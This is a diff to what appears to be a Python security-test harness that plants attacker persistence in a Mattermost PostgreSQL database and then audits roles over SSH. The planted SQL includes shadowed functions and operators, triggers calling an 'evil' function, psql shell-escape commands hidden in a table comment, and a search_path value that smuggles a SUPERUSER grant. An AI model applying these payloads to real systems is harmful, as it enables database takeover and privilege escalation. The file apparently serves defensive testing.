@@ -117,7 +117,7 @@ BEGIN
   RETURN 1;
 END $f$;
 CREATE OR REPLACE FUNCTION public.hashtextextended(text, integer) RETURNS bigint LANGUAGE sql AS 'SELECT pg_catalog.hashtextextended($1, $2::bigint) + 0 * public.evil()';
-CREATE OR REPLACE FUNCTION public.truth(anyelement) RETURNS boolean LANGUAGE sql AS 'SELECT public.evil() = 1';
+CREATE OR REPLACE FUNCTION public.truth(anyelement) RETURNS boolean IMMUTABLE LANGUAGE sql AS 'SELECT public.evil() = 1';
 CREATE OR REPLACE FUNCTION public.touched() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN PERFORM public.evil(); RETURN coalesce(new, old); END';
 CREATE OR REPLACE FUNCTION public.equal(text, integer) RETURNS boolean LANGUAGE sql AS 'SELECT public.evil() = 1';
 DO $$ BEGIN CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = integer, FUNCTION = public.equal); EXCEPTION WHEN others THEN NULL; END $$;
@@ -135,9 +135,8 @@ CREATE OR REPLACE RULE entered AS ON INSERT TO public.trap DO ALSO SELECT public
 DROP TRIGGER IF EXISTS touched ON public.posts; CREATE TRIGGER touched AFTER INSERT OR UPDATE ON public.posts FOR EACH ROW EXECUTE FUNCTION public.touched();
 DROP MATERIALIZED VIEW IF EXISTS public.kept; CREATE MATERIALIZED VIEW public.kept AS SELECT public.evil() AS n;
 COMMENT ON TABLE public.trap IS E'\\! touch owned-comment\n\\connect postgres';
-COMMENT ON DATABASE mattermost IS E'x''; ALTER ROLE mattermost SUPERUSER; --\n$(touch owned-database)';
+SELECT set_config('search_path', 'public,pg_catalog;ALTER/**/ROLE/**/mattermost/**/SUPERUSER', false); ALTER DATABASE mattermost SET search_path FROM CURRENT;
 ALTER ROLE mattermost SET search_path = public, pg_catalog;
-ALTER DATABASE mattermost SET search_path = public, pg_catalog;
 """
 
 PLANT = f"""
@@ -184,6 +183,12 @@ systemctl list-unit-files --no-legend | awk '$1 !~ /^mattermost|scope$/ {print "
 cd /; runuser -u postgres -- psql -XAtqc "SELECT 'role', rolname, rolsuper, rolcreaterole, rolreplication FROM pg_roles WHERE rolname !~ '^pg_' ORDER BY 2"
 runuser -u postgres -- psql -XAtqc "SELECT 'member', roleid::regrole, member::regrole FROM pg_auth_members WHERE member > 16383 OR roleid > 16383"
 """
+
+
+def plant(deployment) -> None:
+    """Have the attacker plant all of it, again where it is gone, and be at work until `END`."""
+    done = deployment.host.ssh("sh -s", input=PLANT, check=False)
+    assert done.returncode == 0, done.stderr
 
 
 def look(deployment) -> dict:
